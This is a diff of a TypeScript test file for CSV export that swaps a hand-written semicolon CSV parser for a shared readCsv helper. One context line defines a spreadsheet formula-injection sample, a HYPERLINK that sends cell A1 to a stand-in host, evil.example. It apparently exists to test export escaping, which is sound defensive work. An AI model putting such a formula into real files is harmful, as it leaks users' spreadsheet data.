@@ -9,42 +9,16 @@ import { build } from '../helper.ts';
 import { moneyOrganizations } from '../support/money-fixtures.ts';
 import type { Person } from '../support/fixtures.ts';
 import { csvAmount, csvDate, csvText } from '../../src/format/csv.ts';
+import { readCsv } from '../support/csv.ts';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';
 
-/** RFC 4180 with `;`: the rows' cells (quotes undone), after checking the BOM and CRLF ends. */
+/** The rows' cells, after checking the BOM and CRLF ends. */
 function parseCsv(raw: Buffer): string[][] {
   assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a BOM');
   const text = raw.subarray(3).toString('utf8');
   assert.ok(text.endsWith('\r\n'), 'CRLF line ends');
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ';') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else {
-      assert.notEqual(c, '\n', 'no bare LF');
-      cell += c;
-    }
-  }
-  return rows;
+  return readCsv(text, ';', { crlfOnly: true });
 }
 
 /** The rows as objects keyed by the header's French names. */
